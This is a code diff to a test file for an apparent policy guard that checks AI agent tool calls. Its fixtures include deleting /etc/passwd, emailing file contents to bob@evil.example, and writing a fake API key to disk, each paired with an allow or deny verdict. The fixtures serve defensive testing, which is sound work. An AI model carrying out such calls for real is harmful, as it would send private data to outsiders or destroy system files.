@@ -11,14 +11,16 @@ import { openStore } from '../../src/store/db.js';
 
 const DEFAULT_BOOK = join(import.meta.dirname, '../../policies/default');
 
+const NOTES = 'Quarterly notes: the Lisbon office closes its books on the ninth, and the audit starts the week after.';
+
 /** The recorded trace: [interaction, verdict expected under the shipped default book]. */
 const TRACE: Array<[InteractionInput, 'allow' | 'deny']> = [
   [{ kind: 'tool_call', agent: 'a', session: 's1', server: 'files', tool: 'delete_file', arguments: { path: '/tmp/scratch.txt' } }, 'allow'],
   [{ kind: 'tool_call', agent: 'a', session: 's1', server: 'files', tool: 'delete_file', arguments: { path: '/etc/passwd' } }, 'deny'],
-  [{ kind: 'tool_result', agent: 'b', session: 's2', server: 'ws', tool: 'read_file', content: [{ type: 'text', text: 'quarterly notes' }] }, 'allow'],
-  [{ kind: 'tool_call', agent: 'b', session: 's2', server: 'mail', tool: 'send_email', arguments: { to: 'bob@evil.example', body: 'see https://evil.example/x' } }, 'deny'],
-  // Same call in a session that read nothing: allowed, so only the sticky state of s2 made the difference above.
-  [{ kind: 'tool_call', agent: 'c', session: 's3', server: 'mail', tool: 'send_email', arguments: { to: 'bob@evil.example', body: 'see https://evil.example/x' } }, 'allow'],
+  [{ kind: 'tool_result', agent: 'b', session: 's2', server: 'ws', tool: 'read_file', content: [{ type: 'text', text: NOTES }] }, 'allow'],
+  [{ kind: 'tool_call', agent: 'b', session: 's2', server: 'mail', tool: 'send_email', arguments: { to: 'bob@evil.example', body: `see ${NOTES}` } }, 'deny'],
+  // Same call by an identity that read nothing: allowed, so only the data b read made the difference above.
+  [{ kind: 'tool_call', agent: 'c', session: 's3', server: 'mail', tool: 'send_email', arguments: { to: 'bob@evil.example', body: `see ${NOTES}` } }, 'allow'],
   [{ kind: 'tool_call', agent: 'd', session: 's4', server: 'files', tool: 'write_file', arguments: { path: '/tmp/k', content: 'key sk-proj-AbCdEfGhIjKlMnOpQrStUv0123456789' } }, 'deny'],
 ];
 
@@ -108,7 +110,7 @@ describe('quadguard replay', () => {
 
   it('lists deny→allow with the rules before and after when a rule is switched to monitor', async () => {
     const book = editedBook('loose', (y) =>
-      y.replace("formula: '!(private_data_read & external_send)'\n    severity: high", "formula: '!(private_data_read & external_send)'\n    severity: high\n    mode: monitor"),
+      y.replace("formula: '!(private_data_to_external_sink | (private_data_to_file & public_target_path))'\n    severity: high", "formula: '!(private_data_to_external_sink | (private_data_to_file & public_target_path))'\n    severity: high\n    mode: monitor"),
     );
     const r = await runReplayCommand({ audit: db, policy: book });
     expect(r.changed).toHaveLength(1);
